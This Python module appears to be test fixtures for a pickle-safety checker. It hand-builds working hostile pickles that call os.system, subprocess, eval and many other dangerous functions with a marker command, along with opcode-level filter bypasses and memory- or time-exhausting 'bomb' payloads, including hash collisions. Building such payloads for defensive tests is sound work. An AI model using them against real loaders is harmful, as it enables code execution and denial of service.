"""Hostile pickles, assembled by hand: published ways to run code, and to fill memory or time."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator, Mapping, Sequence

__all__ = ["ATTACKS", "BOMBS", "HARMLESS", "call"]

# Functions that published attacks on pickles call, each with arguments that would show.
_FUNCTIONS = (
    """
os system, posix system, nt system, os popen, os execv, os spawnlp, os remove, subprocess Popen,
subprocess call, subprocess check_output, subprocess getoutput, builtins eval, builtins exec,
builtins compile, builtins open, builtins __import__, builtins getattr, builtins setattr,
builtins breakpoint, builtins input, builtins globals, builtins vars, builtins map, builtins
type, builtins super, __builtin__ eval, __builtin__ file, builtins range, builtins bytearray,
runpy _run_code, runpy run_path, pty spawn, code interact, codeop compile_command, code
InteractiveInterpreter.runcode, importlib import_module, importlib._bootstrap _load,
importlib.machinery SourceFileLoader, imp load_source, pkgutil resolve_name, types CodeType,
types FunctionType, marshal loads, ctypes CDLL, ctypes.util find_library, operator attrgetter,
operator methodcaller, functools partial, functools reduce, itertools starmap, _operator
methodcaller, _io open, io FileIO, codecs open, pickle loads, _pickle loads, _pickle Unpickler,
dill loads, cloudpickle loads, joblib load, shelve open, numpy load, numpy fromfile, numpy
memmap, numpy savetxt, numpy.testing._private.utils runstring, numpy.f2py.crackfortran
getlincoef, numpy.core.records fromfile, numpy._core.multiarray fromstring, numpy _core, torch
load, torch.hub load, torch.storage _load_from_bytes, torch.jit load, torch._dynamo.guards
GuardBuilder.get, torch._inductor.codecache compile_file, webbrowser open, socket
create_connection, urllib.request urlopen, smtplib SMTP, http.client HTTPConnection, ftplib FTP,
xmlrpc.client ServerProxy, ssl get_server_certificate, shutil rmtree, pathlib Path.write_text,
tempfile mktemp, zipfile ZipFile, sqlite3 connect, timeit timeit, cProfile run, profile
Profile.run, pdb run, bdb Bdb.run, trace Trace, doctest debug_script, idlelib.run
Executive.runcode, lib2to3.pgen2.pgen ParserGenerator, pydoc pipepager, site execsitecustomize,
ensurepip _run_pip, pip main, venv create, multiprocessing.util spawnv_passfds,
asyncio.unix_events _UnixSubprocessTransport._start, _aix_support _read_cmd_output, _osx_support
_read_output, _pyrepl.pager pipe_pager, distutils.file_util write_file, uuid
_get_command_stdout, logging.config fileConfig, linecache getline, sys exit, sys settrace,
signal alarm, gc get_objects, atexit register, threading Thread, collections Counter, copyreg
add_extension, copyreg __newobj__, collections OrderedDict.fromkeys, numpy dtype.__reduce__,
numpy ndarray.tofile, policy_server.errors ModelError, __main__ run, gymnasium.envs make, ray
init
""".replace("\n", " ")
    .strip()
    .split(", ")
)


def global_name(name: str, protocol: int) -> bytes:
    """Return the operations that put a class or function on the stack."""
    module, _, attribute = name.partition(" ")
    if protocol < 4:
        return f"c{module}\n{attribute}\n".encode()
    return b"".join(_text(part) for part in (module, attribute)) + b"\x93"


def call(name: str, *arguments: object, protocol: int = 2) -> bytes:
    """Return a pickle that calls a function by REDUCE."""
    return _whole(global_name(name, protocol) + _tuple(arguments) + b"R", protocol)


def _whole(body: bytes, protocol: int) -> bytes:
    return (b"" if protocol < 2 else bytes([0x80, protocol])) + body + b"."


def _text(text: str) -> bytes:
    content = text.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def _tuple(arguments: tuple[object, ...]) -> bytes:
    return b"(" + b"".join(pickle.dumps(item, 1)[:-1] for item in arguments) + b"t"


def _named(module: str, name: str) -> bytes:
    return _P4 + _text(module) + _text(name) + b"\x93"


_P4 = b"\x80\x04"
_SYSTEM = global_name("os system", 2)
_ARGUMENTS = _tuple(("touch ran",))
_STAND_IN = b"cgymnasium.spaces.x\nf\n"
_EMPTY_ARRAY = b"cnumpy._core.multiarray\n_reconstruct\n(c%b\nK\x00\x85C\x01btR"
_ARRAY = _EMPTY_ARRAY % b"numpy\nndarray"
_DTYPE = b"cnumpy\ndtype\n"
_OBJECTS = _DTYPE + _text("O8") + b"\x85R"
_DOUBLES = _DTYPE + _text("f8") + b"\x85R"

# Further ways to a call, or to change what a later file meets.
_WAYS: Mapping[str, bytes] = {
    "INST": b"(" + _text("touch ran") + b"ios\nsystem\n.",
    "OBJ": b"(" + _SYSTEM + _text("touch ran") + b"o.",
    "NEWOBJ": _SYSTEM + _ARGUMENTS + b"\x81.",
    "NEWOBJ_EX": _SYSTEM + _ARGUMENTS + b"}\x92.",
    "EXT1": b"\x80\x02\x82\x01.",
    "EXT2": b"\x80\x02\x83\x01\x00.",
    "EXT4": b"\x80\x02\x84\x01\x00\x00\x00.",
    "PERSID": b"Pos.system\n.",
    "BINPERSID": _text("os.system") + b"Q.",
    "NEXT_BUFFER": b"\x80\x05\x97.",
    "READONLY_BUFFER": b"\x80\x05N\x98.",
    "without an end": _SYSTEM + _ARGUMENTS + b"R",
    "result thrown away": _SYSTEM + _ARGUMENTS + b"R0N.",
    "in a key": b"}" + _SYSTEM + _ARGUMENTS + b"RK\x01s.",
    "name by memo": b"".join(
        (_P4, _text("os"), b"\x940", _text("system"), b"\x940h\x00h\x01\x93", _ARGUMENTS, b"R.")
    ),
    "name made of bytes": b"".join(
        (_P4, call("_codecs encode", "os", "latin1")[2:-1], _text("system"), b"\x93.")
    ),
    "name with a line's end": _named("os\n", "system") + b".",
    "name with a NUL": _named("os", "system\0") + b".",
    "chain of attributes": _named("collections", "OrderedDict.__init__.__globals__") + b".",
    "attribute of an allowed name": _named("numpy", "dtype.__class__.__base__") + b".",
    "through a stand-in": b"".join(
        (_STAND_IN, _ARGUMENTS, b"R}", _text("x"), _SYSTEM, b"sb0", _SYSTEM, _ARGUMENTS, b"R.")
    ),
    "call of a result": _STAND_IN + b")R" + _ARGUMENTS + b"R" + _SYSTEM + b"R.",
    "attributes of a function": b"".join(
        (b"cnumpy.core.numeric\n_frombuffer\n(N}", _text("__defaults__"), b"K\x07\x85stb.")
    ),
    "attributes of a class": b"cnumpy\nndarray\n(N}" + _text("x") + b"K\x07stb.",
    "attributes of a built-in class": b"cbuiltins\ndict\n}" + _text("get") + b"K\x07sb.",
    "attributes of a list": b"]}" + _text("append") + b"K\x07sb.",
    "array of a class of its own": _EMPTY_ARRAY % b"builtins\nlist" + b".",
    "array of objects": _ARRAY + b"(K\x01K\x01\x85" + _OBJECTS + b"\x89]Natb.",
}
ATTACKS: Mapping[str, Sequence[bytes]] = {
    **{name: [call(name, "touch ran", protocol=n) for n in range(6)] for name in _FUNCTIONS},
    **{name: [content] for name, content in _WAYS.items()},
}
# Nothing of these is ever read, or it is plain data.
HARMLESS: Mapping[str, bytes] = {
    "after the end of another": b"N." + call("os system", "touch ran"),
    "in a string": pickle.dumps({"x": call("os system", "touch ran")}),
}


def _laughs(opened: bytes, closed: bytes) -> bytes:
    """Return containers that hold the one before ten times over, forty times."""
    levels = [b"h" + bytes([level]) for level in range(40)]
    return b"]K\x01a\x94" + b"".join(
        b"0" + opened + kept * 10 + closed + b"\x94" for kept in levels
    )


_LISTS, _TUPLES = _laughs(b"](", b"e"), _laughs(b"(", b"t")
_MEGABYTE = _text("x" * 1_000_000) + b"\x940"
_ITEMS = b"](" + b"K\x01" * 100_000 + b"e\x940"


def _pairs_of_one_hash(count: int) -> Iterator[tuple[bytes, bytes]]:
    """Yield pairs of whole numbers, eight bytes each, which have one hash as tuples."""
    # Source: `tuplehash` in CPython's Objects/tupleobject.c, whose steps are undone for the second.
    first, second, start, word = (
        11400714785074694791,
        14029467366897019727,
        2870177450012600261,
        2**64,
    )
    found, number, goal = 0, 2**40, None
    while found < count:
        number += 1
        behind = (start + number * second) % word
        behind = ((behind << 31) | (behind >> 33)) * first % word
        goal = behind + 7 * second if goal is None else goal
        other = (goal - behind) * pow(second, -1, word) % word
        # The hash of a number below this is itself.
        if other < 2**61 - 1:
            found += 1
            yield number.to_bytes(8, "little"), other.to_bytes(8, "little")


_ENCODED = b"c_codecs\nencode\nh\x00" + _text("latin1") + b"\x86Ra"
_BYTES = b"B" + struct.pack("<I", 1_000_000) + bytes(1_000_000) + b"\x940"
_BYTE_TYPE = _DTYPE + _text("u1") + b"\x85R\x940"
_FILLED = _ARRAY + b"(K\x01J\x40\x42\x0f\x00\x85h\x01\x89h\x00tb"
_SUBARRAY = (
    b"(K\x03" + _text("<") + _DOUBLES + b"I1000000000\n\x85\x86NN" + b"J\xff\xff\xff\xff" * 2
)
_OF_ONE_HASH = (b"\x8a\x0c" + (n * (2**61 - 1)).to_bytes(12, "little") for n in range(1, 100_000))

# Tuples of two numbers, all with the hash of (1, 2): the second is chosen for the first.
_ONE_HASH = b"".join(b"\x8a\x08%b\x8a\x08%b\x86N" % pair for pair in _pairs_of_one_hash(16_000))
_TWO_TEXTS = b"".join((b"X", struct.pack("<I", 10_000_000), b"x" * 10_000_000, b"\x940")) * 2
_TUPLE_OF_MANY = b"(" + b"N" * 100_000 + b"t\x940"
_LONG_NAME = _text("gymnasium.spaces." + "x" * 2_000_000) + b"\x940" + _text("X") + b"\x940"

BOMBS: Mapping[str, bytes] = {
    "lists of lists": _P4 + _LISTS + b".",
    "tuples of tuples": _P4 + _TUPLES + b".",
    "text of lists of lists": _P4 + b"cbuiltins\nstr\n" + _LISTS + b"\x85R.",
    "type of lists of lists": _P4 + _DTYPE + _LISTS + b"\x85R.",
    "key of tuples of tuples": _P4 + b"}" + _TUPLES + b"K\x01s.",
    "set of tuples of tuples": _P4 + b"\x8f(" + _TUPLES + b"\x90.",
    "frozenset of tuples of tuples": _P4 + b"(" + _TUPLES + b"\x91.",
    **{
        f"copies by {kind}": b"".join(
            (_P4, _ITEMS, b"]", f"cbuiltins\n{kind}\nh\0\x85Ra".encode("latin1") * 20_000, b".")
        )
        for kind in ("list", "tuple", "set", "frozenset")
    },
    "copies of text": _P4 + _MEGABYTE + b"]" + _ENCODED * 9_000 + b".",
    "copies of an array": _P4 + _BYTES + _BYTE_TYPE + b"](" + _FILLED * 9_000 + b"e.",
    "one text many times": _P4 + _MEGABYTE + b"](" + b"h\x00" * 400_000 + b"e.",
    "nested tuples": b"(" * 200_000 + b"t" * 200_000 + b".",
    "nested lists": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
    "a list in itself": _P4 + b"]\x94h\x00a.",
    "a dictionary in itself": _P4 + b"}\x94K\x01h\x00s.",
    "many classes": b"".join(b"cgymnasium.spaces.x\nc%d\n0" % n for n in range(150_000)) + b"N.",
    "keys of one hash": b"\x80\x02}(" + b"".join(key + b"N" for key in _OF_ONE_HASH) + b"u.",
    "tuples of one hash": b"\x80\x02}(" + _ONE_HASH + b"u.",
    "set of tuples of one hash": _P4 + b"\x8f(" + _ONE_HASH.replace(b"\x86N", b"\x86") + b"\x90.",
    "numbers as keys": _P4
    + b"}("
    + b"".join(b"J" + struct.pack("<i", n) + b"N" for n in range(20_000))
    + b"u.",
    "numbers with a point as keys": _P4
    + b"\x8f("
    + b"".join(b"G" + struct.pack(">d", n) for n in range(20_000))
    + b"\x90.",
    "long texts that are compared as keys": _P4
    + _TWO_TEXTS
    + b"}"
    + b"h\x00Nsh\x01Ns" * 80_000
    + b".",
    "a long name many times": _P4 + _LONG_NAME + b"h\x00h\x01\x930" * 120_000 + b"N.",
    "a state of many parts": _P4
    + _TUPLE_OF_MANY
    + b"cgymnasium.spaces.x\nX\n)\x81"
    + b"h\x00b" * 150_000
    + b".",
    "a number of a long text": _P4
    + b"".join((b"X", struct.pack("<I", 1_000_000), b"1" * 1_000_000, b"\x940"))
    + b"cbuiltins\ncomplex\n\x940"
    + b"h\x01h\x00h\x00\x86R0" * 50_000
    + b"N.",
    "an array's shape of huge numbers": _ARRAY
    + b"(K\x01("
    + (b"\x8b" + struct.pack("<i", 1500) + b"\x7f" * 1500) * 32
    + b"t"
    + _DOUBLES
    + b"\x89C\x00tb.",
    "an array's shape of many numbers": _ARRAY
    + b"(K\x01("
    + b"\x8a\x08\xff\xff\xff\xff\xff\xff\xff\x7f" * 32
    + b"t"
    + _DOUBLES
    + b"\x89C\x00tb.",
    "an array of any size": b"cnumpy\nndarray\n(I9999999999\ntR.",
    "an array's size by its state": b"".join(
        (_ARRAY, b"(K\x01(I99999999\nI99999999\nt", _DOUBLES, b"\x89C\x00tb.")
    ),
    "a type of any size": b"\x80\x02" + _DOUBLES + _SUBARRAY + b"K\x00tb.",
    "a type of any width": _DTYPE + _text("V9999999999") + b"\x85R.",
    "a huge number": b"\x80\x02\x8b\xff\xff\xff\x7f" + bytes(100) + b".",
    "a huge number in digits": b"I" + b"9" * 5_000_000 + b"\n.",
    "a huge text": b"\x80\x04\x8d" + (2**40).to_bytes(8, "little") + b"x.",
    "huge bytes": b"\x80\x04\x8e" + (2**62).to_bytes(8, "little") + b"x.",
    "a huge bytearray": b"\x80\x05\x96" + (2**40).to_bytes(8, "little") + b"x.",
    "a huge frame": b"\x80\x04\x95" + (2**60).to_bytes(8, "little") + b".",
    "a million operations": b"(" + b"N" * 1_000_000 + b"t.",
    "a million marks": b"(" * 1_000_000 + b".",
    "attributes of many objects": b"".join(
        (
            _P4,
            b"}\x94("
            + b"".join(b"M" + n.to_bytes(2, "little") + b"N" for n in range(20_000))
            + b"u",
            b"cgymnasium.spaces.x\nX\n\x94(" + b"h\x01)\x81h\x00b" * 5_000 + b"t.",
        )
    ),
    # The last one looked at holds a list in itself.
    "many objects": b"".join(
        (
            _P4,
            b"]\x94h\x00a](cgymnasium.spaces.x\nX\n\x94)\x81}K\x01h\x00sb",
            b"h\x01)\x81" * 100_000 + b"e.",
        )
    ),
}
